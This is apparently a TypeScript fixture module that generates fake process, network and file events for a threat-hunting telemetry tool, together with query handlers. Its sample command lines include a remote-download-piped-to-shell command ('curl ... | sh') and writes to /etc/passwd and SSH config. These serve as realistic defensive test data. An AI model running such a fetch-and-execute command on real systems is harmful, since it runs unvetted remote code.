/** FAKE events, and hunts over them by the real language. */
import {
  eventActions,
  type FieldName,
  type HuntEvent,
  type HuntGap,
  type SavedHunt,
  telemetryFields,
} from '@parapet/contract/api';
import type { Hunt, Test } from '../../../packages/telemetry/src/language/hunt.ts';
import { parseHunt } from '../../../packages/telemetry/src/language/parse.ts';
import { type FakeHandlers, FakeRefusal } from './fake-answers.ts';
import { chance, day, hour, idOf, minute, pick } from './fake-seed.ts';
import { fakeSignIns } from './fake-sign-ins.ts';
import type { FakeWorld } from './fake-world.ts';

const programs = [
  ['nginx', '/usr/sbin/nginx', 'nginx -g daemon off;'],
  ['node', '/usr/local/bin/node', 'node server.js --port 8080'],
  ['sh', '/bin/dash', 'sh -c "curl -s http://10.4.0.9/x | sh"'],
  ['curl', '/usr/bin/curl', 'curl -s http://10.4.0.9/x'],
  ['psql', '/usr/bin/psql', 'psql --host db-01 --password ***'],
  ['python3', '/usr/bin/python3', 'python3 -c \nimport os\nprint("\u001b[31mred\u001b[0m")'],
  ['cron', '/usr/sbin/cron', 'cron -f'],
  ['git', '/usr/bin/git', 'git fetch --all --prune origin'],
] as const;

/** Some thousands over a day, denser towards now, the same on every start. */
const makeEvents = (world: FakeWorld): HuntEvent[] => {
  const events: HuntEvent[] = [];
  if (world.hosts.length === 0) return events;
  const base = Math.floor(Date.now() / 1000) * 1000;
  for (let index = 0; index < 9000; index += 1) {
    const at = (base - Math.floor(chance('age', index) ** 3 * day)) * 1000 + index;
    const host = pick(world.hosts, 'host', index);
    const container = chance('in', index) > 0.3 ? pick(world.containers, 'c', index) : undefined;
    const [name, executable, line] = pick(programs, 'p', index);
    const start = {
      'host.id': container?.hostId ?? host.id,
      'host.name': container?.hostname ?? host.name,
      'event.sequence': index,
      'parapet.source': 'ebpf',
      'process.name': name,
      'process.executable': executable,
      'process.pid': 1000 + index,
      'process.entity_id': `${1000 + index}:${index}`,
      'process.parent.name': index % 5 === 0 ? 'systemd' : 'sh',
      'process.parent.entity_id': index % 5 === 0 ? '1:0' : `${999 + index - (index % 5)}:${index - 1 - (index % 5)}`,
      'process.command_line': line,
      'process.args': line.split(' '),
      'user.id': chance('root', index) > 0.7 ? 0 : 1000,
      'user.name': chance('root', index) > 0.7 ? 'root' : 'app',
      ...(container === undefined
        ? {}
        : {
            'container.id': idOf('runtime', container.id).replaceAll('-', ''),
            'container.name': container.name,
            'container.image.name': container.imageName ?? '',
          }),
    };
    if (index % 3 === 2) {
      events.push({ ...start, '@timestamp': at, ...deedOf(index) });
      continue;
    }
    events.push({ ...start, '@timestamp': at, 'event.action': 'exec', 'process.start': at });
    if (chance('ends', index) > 0.2)
      events.push({
        ...{ ...start, '@timestamp': at + Math.floor(chance('for', index) * 240_000_000), 'event.action': 'exit' },
        ...{ 'event.sequence': 20_000 + index, 'process.exit_code': chance('code', index) > 0.8 ? 1 : 0 },
      });
  }
  for (const [index, event] of fakeSignIns.entries()) {
    const host = pick(world.hosts, 'signs in', index);
    const at = (base - index * 7 * minute) * 1000;
    const where = { 'host.id': host.id, 'host.name': host.name, 'event.sequence': 40_000 + index };
    events.push({ ...where, '@timestamp': at, ...event });
  }
  return events.toSorted((a, b) => Number(b['@timestamp']) - Number(a['@timestamp']));
};

/** What processes do beside starting and ending. */
const deedOf = (index: number): HuntEvent => {
  const action = pick(['connect', 'accept', 'flow', 'datagram', 'dns-query', 'file-write'] as const, 'a', index);
  if (action === 'file-write')
    return {
      'event.action': action,
      'file.path': pick(['/etc/passwd', '/etc/cron.d/backup', '/root/.ssh/config'], index),
    };
  const resolver = { 'source.ip': '10.4.0.12', 'destination.ip': '10.4.0.2', 'destination.port': 53 };
  const answered = chance('answered', index) > 0.3;
  if (action === 'dns-query')
    return {
      ...{ 'event.action': action, 'network.transport': 'udp', ...resolver },
      ...{ 'dns.question.name': `db-0${index % 9}.example`, 'dns.question.type': 'A' },
      ...(answered
        ? { 'dns.response_code': 'NOERROR', 'dns.resolved_ip': [`10.4.0.${index % 40}`], 'event.outcome': 'success' }
        : { 'dns.response_code': 'NXDOMAIN', 'event.outcome': 'failure' }),
    };
  if (action === 'datagram')
    return {
      ...{ 'event.action': action, 'network.transport': 'udp', 'network.direction': 'egress' },
      ...{ 'source.ip': '10.4.0.12', 'source.port': 50_000 + (index % 999) },
      ...{ 'destination.ip': `10.4.0.${index % 9}`, 'destination.port': pick([123, 514, 8125], 'udp', index) },
    };
  const failed = action === 'connect' && !answered;
  return {
    ...{ 'event.action': action, 'network.transport': 'tcp' },
    ...{ 'source.ip': '10.4.0.12', 'source.port': failed ? 0 : 40_000 + (index % 999) },
    ...{ 'destination.ip': index % 7 === 0 ? '2001:db8::7' : `10.4.0.${index % 40}`, 'destination.port': 443 },
    ...(action === 'connect' ? { 'event.outcome': failed ? 'failure' : 'success' } : {}),
  };
};

const gapsOf = (world: FakeWorld): HuntGap[] => {
  const [first, second, third] = world.hosts;
  if (first === undefined || second === undefined) return [];
  const ago = (ms: number): string => new Date(Date.now() - ms).toISOString();
  return [
    {
      ...{ hostId: first.id, hostName: first.name, collector: 'activity', lost: 1284, cause: 'kernel: ring full' },
      ...{ from: ago(22 * minute), to: ago(20 * minute) },
    },
    {
      ...{ hostId: second.id, hostName: second.name, collector: 'sensor', cause: 'It was killed: out of memory.' },
      ...{ from: ago(41 * minute), to: ago(34 * minute) },
    },
    ...(third === undefined
      ? []
      : [
          {
            ...{ hostId: third.id, hostName: third.name, collector: 'sensor', cause: 'the sensor was installed then' },
            ...{ from: ago(30 * day), to: ago(6 * hour), unwatched: true as const },
          },
        ]),
    {
      ...{ hosts: world.hosts.length - 4, collector: 'policy', from: ago(3 * hour) },
      cause: 'version 7 leaves out some of exec, exit',
    },
  ];
};

type Span = { readonly q: string; readonly since: string; readonly until: string };

export const huntAnswers = (world: FakeWorld): FakeHandlers => {
  const all = makeEvents(world);
  const gaps = gapsOf(world);
  let saved: SavedHunt[] = [
    {
      ...{ id: idOf('hunt'), name: 'Shells in containers', q: 'process.name in (sh, bash) and container.id exists' },
      ...{ minutes: 1440, columns: [], createdBy: 'anna.keller', createdAt: new Date(Date.now() - day).toISOString() },
    },
  ];
  const find = ({ q, since, until }: Span): HuntEvent[] => {
    const hunt = parseHunt(q);
    if (!hunt.ok) {
      const { message, at, suggestions } = hunt.error;
      throw new FakeRefusal(400, 'bad-hunt', message, { at, suggestions });
    }
    const [from, to] = [Date.parse(since) * 1000, Date.parse(until) * 1000];
    return all.filter((event) => {
      const at = Number(event['@timestamp']);
      return at >= from && at < to && passes(event, hunt.value);
    });
  };
  const within = ({ since, until }: { since: string; until: string }): HuntGap[] =>
    gaps.filter((gap) => gap.from < until && (gap.to ?? until) >= since);
  return {
    'hunt.events': ({ query }) => {
      const found = find(query);
      const start = Number(query.after ?? 0);
      const end = start + query.limit;
      return {
        items: found.slice(start, end),
        ...(end < found.length ? { next: String(end) } : {}),
        gaps: within(query),
      };
    },
    'hunt.histogram': ({ query }) => {
      const stepMs = Math.max(
        1000,
        Math.ceil((Date.parse(query.until) - Date.parse(query.since)) / query.steps / 1000) * 1000,
      );
      const counts = new Map<number, number>();
      const found = find(query);
      for (const event of found) {
        const at = Math.floor(Number(event['@timestamp']) / 1000 / stepMs) * stepMs;
        counts.set(at, (counts.get(at) ?? 0) + 1);
      }
      const buckets = [...counts].toSorted(([a], [b]) => a - b);
      return {
        stepMs,
        total: found.length,
        buckets: buckets.map(([at, count]) => ({ at: new Date(at).toISOString(), count })),
      };
    },
    'hunt.values': ({ query }) => {
      const counts = new Map<string, number>();
      for (const event of find(query)) {
        const value = event[query.field];
        for (const each of Array.isArray(value) ? value : value === undefined ? [] : [String(value)])
          counts.set(each, (counts.get(each) ?? 0) + 1);
      }
      const values = [...counts].map(([value, count]) => ({ value, count })).toSorted((a, b) => b.count - a.count);
      return { values: values.slice(0, query.limit) };
    },
    'hunt.fields': () => ({
      fields: Object.entries(telemetryFields).map(([name, { type, about }]) => ({ name, type, about })),
      actions: [...eventActions],
      store: {
        ...{ events: all.length, bytes: all.length * 27 },
        ...(all.length === 0 ? {} : { since: new Date(Date.now() - day).toISOString() }),
      },
    }),
    'hunt.export': ({ query }) =>
      find(query)
        .map((event) => JSON.stringify(event))
        .join('\n'),
    'hunt.accounts': ({ params, query }) => {
      const host = world.hosts.find(({ id }) => id === params.hostId);
      const [from, to] = [Date.parse(query.since), Date.parse(query.until)];
      const stepMs = Math.ceil((to - from) / query.steps / 1000) * 1000;
      const buckets = Array.from({ length: query.steps }, (_, index) => ({
        at: new Date(from + index * stepMs).toISOString(),
        produced: Math.round(400 + chance(params.hostId, index) * 4000),
        lost: chance(params.hostId, 'lost', index) > 0.93 ? Math.round(chance(index) * 900) : 0,
      }));
      const produced = buckets.reduce((sum, bucket) => sum + bucket.produced, 0);
      const lost = buckets.reduce((sum, bucket) => sum + bucket.lost, 0);
      const unwanted = Math.round(produced / 50);
      return host === undefined
        ? { collectors: [], stepMs, buckets: [], blind: [] }
        : {
            collectors: [
              {
                ...{ collector: 'activity', produced, told: produced - lost - unwanted, unwanted, lost },
                losses: [
                  { stage: 'kernel', cause: 'ring full', count: Math.ceil(lost * 0.8) },
                  { stage: 'spool', cause: 'older than the limit', count: Math.floor(lost * 0.2) },
                ].filter(({ count }) => count > 0),
              },
            ],
            ...{ stepMs, buckets },
            blind: gaps
              .filter((gap) => gap.lost === undefined && gap.collector !== 'policy')
              .map((gap) => ({ ...gap, hostId: host.id, hostName: host.name })),
          };
    },
    'savedHunts.list': () => ({ items: saved }),
    'savedHunts.create': ({ body }) => {
      const made = {
        ...body,
        id: idOf('hunt', body.name),
        createdBy: 'anna.keller',
        createdAt: new Date().toISOString(),
      };
      saved = [...saved.filter(({ name }) => name !== body.name), made];
      return made;
    },
    'savedHunts.delete': ({ params }) => {
      saved = saved.filter(({ id }) => id !== params.savedHuntId);
      return undefined;
    },
  };
};

const passes = (event: HuntEvent, hunt: Hunt): boolean => {
  switch (hunt.kind) {
    case 'all':
      return true;
    case 'and':
      return hunt.parts.every((part) => passes(event, part));
    case 'or':
      return hunt.parts.some((part) => passes(event, part));
    case 'not':
      return !passes(event, hunt.part);
    case 'exists':
      return event[hunt.field] !== undefined;
    case 'test':
      return valuesOf(event, hunt.field).some((value) => holds(value, hunt.test));
  }
};

const valuesOf = (event: HuntEvent, field: FieldName): readonly (string | number | boolean)[] => {
  const value = event[field];
  return value === undefined ? [] : Array.isArray(value) ? value : [value];
};

const holds = (value: string | number | boolean, test: Test): boolean => {
  switch (test.kind) {
    case 'equals':
      return value === test.value;
    case 'wildcard': {
      const pattern = test.pattern
        .replace(/[\\^$.|+()[\]{}]/g, '\\$&')
        .replaceAll('*', '.*')
        .replaceAll('?', '.');
      return new RegExp(`^${pattern}$`, 's').test(String(value));
    }
    case 'matches':
      return new RegExp(test.pattern).test(String(value));
    case 'range':
      return Number(value) >= (test.from ?? -Infinity) && Number(value) <= (test.to ?? Infinity);
    case 'network':
      return true;
  }
};
